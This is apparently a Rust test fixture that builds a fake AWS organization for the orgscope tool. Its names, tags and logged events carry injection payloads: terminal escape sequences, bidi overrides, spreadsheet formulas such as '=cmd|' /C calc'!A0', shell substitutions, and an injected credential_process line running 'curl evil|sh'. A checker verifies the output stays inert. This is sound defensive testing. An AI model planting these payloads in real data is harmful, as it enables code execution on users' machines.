//! The hostile organization: every field that someone other than the user writes carries a payload
//! a terminal, a spreadsheet or a config file would act on — an OSC 0 title, an OSC 52 clipboard
//! write, a screen clear, CR/LF with fake `[profile evil]` / `credential_process` lines, C1
//! controls, DEL, bidirectional overrides and isolates, line and paragraph separators, and
//! spreadsheet formulas. Served by the fake AWS endpoint ([`org`], [`install`]) and written as a
//! snapshot ([`snapshot`]).

use std::collections::BTreeMap;

use super::fake_aws::{FakeAccount, FakeEvent, FakeOrg, FakeOu, FakeStatus, State};

/// OSC 0: sets the terminal's (and tmux's pane) title.
pub const TITLE: &str = "\u{1b}]0;PWNED-TITLE\u{7}";
/// The text the OSC 52 payload would put on the clipboard.
pub const CLIPBOARD_TEXT: &str = "attacker-clipboard";
/// OSC 52: writes "attacker-clipboard" to the clipboard.
pub const CLIPBOARD: &str = "\u{1b}]52;c;YXR0YWNrZXItY2xpcGJvYXJk\u{7}";
/// Clears the screen and homes the cursor.
pub const CLEAR: &str = "\u{1b}[2J\u{1b}[H";
/// Overwrites its own line and adds lines a shared-config reader would obey.
pub const LINES: &str = "\r\n[profile evil]\ncredential_process = sh -c 'curl evil|sh'\n";
/// Reverses the rest of the line, an isolate, a line separator, a C1 CSI and DEL.
pub const BIDI: &str = "\u{202e}exe.\u{2066}x\u{2069}\u{2028}\u{2029}\u{9b}2J\u{7f}";

pub const ROOT: &str = "r-fa1e";
pub const PLATFORM_OU: &str = "ou-fa1e-00000001";
pub const NESTED_OU: &str = "ou-fa1e-00000002";
pub const MANAGEMENT: &str = "100000000000";
/// Blocked: its AssumeRole is denied.
pub const BLOCKED: &str = "100000000002";
pub const FORMULA: &str = "100000000001";
/// The failed assignment's request.
pub const FAILED_REQUEST: &str = "req-hostile-failed";

pub fn platform_name() -> String {
    format!("Platform{TITLE}{CLIPBOARD}{CLEAR}")
}

pub fn nested_name() -> String {
    format!("Nested{LINES}")
}

pub fn blocked_name() -> String {
    format!("payments{BIDI}{CLEAR}")
}

/// `(id, name, parent, email, tags)` of one account.
type AccountFields = (String, String, String, String, BTreeMap<String, String>);

/// Names, emails and tags of the hostile organization's accounts.
fn accounts() -> Vec<AccountFields> {
    let tag = |k: &str, v: &str| BTreeMap::from([(k.to_string(), v.to_string())]);
    vec![
        (MANAGEMENT.into(), "management".into(), ROOT.into(), "root@example.com".into(), BTreeMap::new()),
        (
            FORMULA.into(),
            "=HYPERLINK(\"http://evil.example\",\"click\")".into(),
            PLATFORM_OU.into(),
            format!("evil{TITLE}@example.com"),
            tag(&format!("team{BIDI}"), &format!("x{CLIPBOARD}")),
        ),
        (BLOCKED.into(), blocked_name(), NESTED_OU.into(), "pay@example.com".into(), tag("cost", "=cmd|' /C calc'!A0")),
        ("100000000003".into(), "+SUM(1)".into(), NESTED_OU.into(), "plus@example.com".into(), BTreeMap::new()),
        ("100000000004".into(), format!("@SUM(1){LINES}"), ROOT.into(), "at@example.com".into(), BTreeMap::new()),
        ("100000000005".into(), "-2+3".into(), ROOT.into(), "minus@example.com".into(), BTreeMap::new()),
        ("100000000006".into(), "\ttab\rcr".into(), ROOT.into(), "tab@example.com".into(), BTreeMap::new()),
    ]
}

/// The organization for the fake endpoint.
pub fn org() -> FakeOrg {
    let ous = vec![
        FakeOu { id: PLATFORM_OU.into(), name: platform_name(), parent: ROOT.into() },
        FakeOu { id: NESTED_OU.into(), name: nested_name(), parent: PLATFORM_OU.into() },
    ];
    let accounts = accounts()
        .into_iter()
        .enumerate()
        .map(|(i, (id, name, parent, email, tags))| FakeAccount {
            id,
            name,
            email,
            status: "ACTIVE".into(),
            joined_method: if i == 2 { "INVITED" } else { "CREATED" }.into(),
            joined_at: 1_600_000_000.0 + i as f64 * 3600.0,
            parent,
            tags,
        })
        .collect();
    FakeOrg { org_id: "o-fa1e000000".into(), root_id: ROOT.into(), management_id: MANAGEMENT.into(), ous, accounts }
}

/// The group whose name carries payloads, and the permission set's.
pub fn group_name() -> String {
    format!("Admins{TITLE}{LINES}")
}

pub fn permission_set_name() -> String {
    format!("Admin{BIDI}")
}

/// A refused call whose parameters (any caller may send them) and error message carry payloads.
pub fn refused_principal() -> String {
    format!("g-{CLIPBOARD}{CLEAR}=1")
}

/// The refused call's permission set: no such set, so its failed lookup is logged.
pub fn refused_permission_set() -> String {
    format!("{PERMISSION_SET}{TITLE}")
}

pub fn failure_reason() -> String {
    format!("Received a 400 status error: {TITLE}{CLIPBOARD}{LINES}{BIDI}")
}

const PERMISSION_SET: &str = "arn:aws:sso:::permissionSet/ssoins-fake/ps-hostile";

/// CloudTrail events: a failed assignment (its reason from the status API carries payloads) and a
/// refused call (CloudTrail records the caller's parameters and AWS's message echoing them).
pub fn events(now: i64) -> Vec<FakeEvent> {
    let failed = super::fake_aws::assignment_event("ev-hostile-1", now - 3600, FAILED_REQUEST, BLOCKED, PERMISSION_SET);
    let refused = serde_json::json!({
        "eventVersion": "1.08",
        "userIdentity": {"type": "IAMUser", "userName": format!("mallory{TITLE}"), "accountId": MANAGEMENT},
        "eventTime": chrono::DateTime::from_timestamp(now - 1800, 0).unwrap_or_default().to_rfc3339(),
        "eventSource": "sso.amazonaws.com",
        "eventName": "CreateAccountAssignment",
        "requestParameters": {
            "instanceArn": "arn:aws:sso:::instance/ssoins-fake", "targetId": BLOCKED, "targetType": "AWS_ACCOUNT",
            "permissionSetArn": refused_permission_set(), "principalType": "GROUP", "principalId": refused_principal()
        },
        "responseElements": null,
        "errorCode": "ValidationException",
        "errorMessage": format!("1 validation error detected: Value '{}' at 'principalId' failed to satisfy constraint", refused_principal()),
        "eventID": "ev-hostile-2"
    });
    vec![
        failed,
        FakeEvent {
            event_id: "ev-hostile-2".into(),
            event_name: "CreateAccountAssignment".into(),
            event_time: now - 1800,
            cloudtrail_event: refused.to_string(),
        },
    ]
}

/// The access map of the hostile snapshot: the hostile group holds the hostile permission set in
/// the blocked account, stale there.
fn identity_center() -> orgscope::model::identity::IdentityCenter {
    use orgscope::model::identity::{Assignment, Group, IdentityCenter, PermissionSet, Provisioned, SetPolicies};
    // Its policies' names are AWS's (anyone who may create a policy writes them): none can be read,
    // so its level is unknown and says which one, by name.
    let policies = SetPolicies {
        managed: vec![format!("arn:aws:iam::aws:policy/Evil{TITLE}").into()],
        customer_managed: vec![format!("/x/{TITLE}{LINES}").into()],
        inline: None,
        boundary: Some(format!("/b{BIDI}").into()),
        session_duration: Some(format!("PT1H{TITLE}").into()),
        boundary_unread: None,
    };
    let set = PermissionSet {
        policies: Some(policies),
        ..PermissionSet::new(PERMISSION_SET, Some(permission_set_name().into()))
    };
    IdentityCenter {
        permission_sets: vec![set],
        provisioned: vec![Provisioned {
            account_id: BLOCKED.into(),
            permission_set_arn: PERMISSION_SET.into(),
            current: false,
        }],
        assignments: vec![Assignment {
            account_id: BLOCKED.into(),
            permission_set_arn: PERMISSION_SET.into(),
            principal_type: orgscope::model::identity::PrincipalKind::Group,
            principal_id: "g-fake".into(),
        }],
        groups: vec![Group { id: "g-fake".into(), display_name: Some(group_name().into()) }],
        ..IdentityCenter::default()
    }
}

/// Puts the hostile events, statuses and names into the fake's state.
pub fn install(state: &mut State, now: i64) {
    state.events = events(now);
    state.statuses.insert(FAILED_REQUEST.into(), FakeStatus::Failed(failure_reason()));
    // The access map: the hostile group holds the hostile permission set in the blocked account,
    // and a user with a hostile name belongs to it.
    state.access.provisioned = vec![(PERMISSION_SET.into(), BLOCKED.into(), false)];
    state.access.assignments = vec![(BLOCKED.into(), PERMISSION_SET.into(), "GROUP".into(), "g-fake".into())];
    state.access.groups = vec![("g-fake".into(), group_name())];
    state.access.users = vec![("u-fake".into(), format!("eve{TITLE}"), group_name(), "eve@example.com".into())];
    state.access.memberships = vec![("g-fake".into(), "u-fake".into())];
    // A failed provisioning only Identity Center's status APIs know, with the same hostile reason.
    state.requests.push(
        super::fake_aws::FakeRequest::new("req-hostile-provision", "provision", BLOCKED, PERMISSION_SET, now - 7200)
            .with_status(FakeStatus::Failed(failure_reason())),
    );
    state.permission_sets.insert(PERMISSION_SET.into(), permission_set_name());
    state.principals.insert("g-fake".into(), group_name());
    state.assume_denials.insert(
        BLOCKED.into(),
        super::fake_aws::Canned::new(
            403,
            "AccessDenied",
            "User: arn:aws:iam::100000000000:user/admin is not authorized to perform: sts:AssumeRole",
        ),
    );
}

/// The characters no output for a person may hold: C0 controls but line feed, DEL, C1, bidi
/// overrides and isolates, line and paragraph separators.
pub fn unsafe_char(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}' | '\u{200e}' | '\u{200f}')
}

/// Panics, naming where, when `text` holds an unsafe character or a line the payloads injected.
pub fn assert_inert(what: &str, text: &str) {
    if let Some((at, c)) = text.char_indices().find(|(_, c)| unsafe_char(*c)) {
        let start = text[..at].char_indices().rev().nth(40).map_or(0, |(i, _)| i);
        panic!("{what} holds {c:?} raw at byte {at}: …{:?}…", &text[start..at + c.len_utf8()]);
    }
    for line in text.lines() {
        let trimmed = line.trim_start_matches(|c: char| c == '"' || c == ',' || c.is_whitespace());
        assert!(
            !trimmed.starts_with("[profile evil]") && !trimmed.starts_with("credential_process"),
            "{what} has an injected line: {line:?}"
        );
    }
    assert!(!text.contains("PWNED-TITLE\u{7}"), "{what}: a raw title sequence");
}

/// The hostile organization as an orgscope snapshot (the blocked account probed, both attempts
/// read), for `--snapshot` and the TUI tests.
pub fn snapshot() -> orgscope::model::Snapshot {
    use orgscope::model::{Account, Caller, Node, Org, OrgInfo, Ou, ProbeOutcome, ProbeStatus, Reason, Root};
    let fake = org();
    let account = |id: &str| -> Node {
        let a = fake.accounts.iter().find(|a| a.id == id).expect("a hostile account");
        Node::Account(Account {
            id: a.id.clone(),
            name: a.name.as_str().into(),
            email: Some(a.email.as_str().into()),
            status: Some(a.status.clone()),
            joined_method: Some(a.joined_method.clone()),
            joined_at: chrono::DateTime::from_timestamp(a.joined_at as i64, 0),
            tags: Some(a.tags.iter().map(|(k, v)| (k.as_str().into(), v.as_str().into())).collect()),
            management: a.id == MANAGEMENT,
        })
    };
    let children_of = |parent: &str| -> Vec<Node> {
        fake.accounts.iter().filter(|a| a.parent == parent).map(|a| account(&a.id)).collect()
    };
    let mut nested = children_of(NESTED_OU);
    orgscope::model::sort_children(&mut nested);
    let mut platform =
        vec![Node::Ou(Ou { id: NESTED_OU.into(), name: nested_name().into(), children: nested, error: None })];
    platform.extend(children_of(PLATFORM_OU));
    let mut root =
        vec![Node::Ou(Ou { id: PLATFORM_OU.into(), name: platform_name().into(), children: platform, error: None })];
    root.extend(children_of(ROOT));
    orgscope::model::sort_children(&mut root);
    // Fixed times, so that views of it are the same on every run.
    let now = 1_796_000_000;
    let mut assignments: Vec<orgscope::model::AssignmentAttempt> = events(now)
        .iter()
        .map(|e| {
            orgscope::source::event::parse(
                &e.event_id,
                chrono::DateTime::from_timestamp(e.event_time, 0),
                &e.cloudtrail_event,
                orgscope::model::Operation::Create,
            )
        })
        .collect();
    for attempt in &mut assignments {
        attempt.account_name = Some(blocked_name().into());
        attempt.permission_set_name = Some(permission_set_name().into());
        if attempt.request_id.as_ref().is_some_and(|r| r.raw() == FAILED_REQUEST) {
            attempt.status = orgscope::model::AssignmentStatus::Failed;
            attempt.failure_reason = Some(failure_reason().into());
            attempt.principal_name = Some(group_name().into());
        }
    }
    let access = BTreeMap::from([(
        BLOCKED.to_string(),
        ProbeOutcome {
            status: ProbeStatus::Blocked,
            reason: Some(Reason::AccessDenied),
            role_arn: Some(format!("arn:aws:iam::{BLOCKED}:role/OrganizationAccountAccessRole")),
            message: Some(format!("not authorized {CLIPBOARD}{TITLE}").into()),
            hint: Some(format!("Invited accounts never get the role: {}", blocked_name()).into()),
            // A cause's evidence holds names from the file too.
            cause: Some(orgscope::model::Cause::ScpDeny),
            evidence: Some(Box::new(orgscope::model::Evidence {
                source: Some(orgscope::model::EvidenceSource::Scp),
                policy_id: Some(format!("p-{CLEAR}").into()),
                policy_name: Some(format!("Guard{TITLE}{LINES}").into()),
                attached_to: Some(format!("ou-{CLIPBOARD}")),
                statement: Some(format!("Sid{BIDI}").into()),
                read_via: Some(format!("management{TITLE}").into()),
                missing: None,
            })),
            ..ProbeOutcome::default()
        },
    )]);
    orgscope::model::Snapshot {
        format: orgscope::model::SNAPSHOT_FORMAT,
        saved_at: chrono::DateTime::from_timestamp(now, 0).unwrap_or_default(),
        region: Some("us-east-1".into()),
        org: Org {
            organization: OrgInfo {
                id: fake.org_id.clone(),
                management_account_id: MANAGEMENT.into(),
                feature_set: Some("ALL".into()),
            },
            caller: Caller { account: MANAGEMENT.into(), arn: format!("arn:aws:iam::{MANAGEMENT}:user/admin") },
            roots: vec![Root { id: ROOT.into(), name: "Root".into(), children: root, error: None }],
        },
        access,
        assignments,
        identity_center: Some(identity_center()),
        portal: None,
    }
}

/// Names a shell would run if it ever evaluated them: a command after `;`, a command
/// substitution, backticks, and a command on a line of its own. Each would create a file named
/// `MARK-…` in the shell's working directory.
pub const SHELL_PAYLOADS: [&str; 4] =
    [";touch MARK-semicolon;#", "$(touch MARK-dollar)", "`touch MARK-backtick`", "\ntouch MARK-newline\n"];

/// The hostile snapshot with [`SHELL_PAYLOADS`] in its OU, account, group and permission set names.
pub fn shell_snapshot() -> orgscope::model::Snapshot {
    use orgscope::model::Node;
    let mut snapshot = snapshot();
    fn rename(children: &mut [Node], at: &mut usize) {
        for node in children {
            let payload = SHELL_PAYLOADS[*at % SHELL_PAYLOADS.len()];
            *at += 1;
            match node {
                Node::Ou(ou) => {
                    ou.name = format!("{}{payload}", ou.name.raw()).into();
                    rename(&mut ou.children, at);
                }
                Node::Account(account) => account.name = format!("{}{payload}", account.name.raw()).into(),
            }
        }
    }
    let mut at = 0;
    for root in &mut snapshot.org.roots {
        rename(&mut root.children, &mut at);
    }
    if let Some(identity) = &mut snapshot.identity_center {
        for group in &mut identity.groups {
            group.display_name = Some(format!("Admins{}", SHELL_PAYLOADS.concat()).into());
        }
        for set in &mut identity.permission_sets {
            set.name = Some(format!("Admin{}", SHELL_PAYLOADS.concat()).into());
        }
    }
    for attempt in &mut snapshot.assignments {
        attempt.account_name = Some(format!("payments{}", SHELL_PAYLOADS.concat()).into());
    }
    snapshot
}
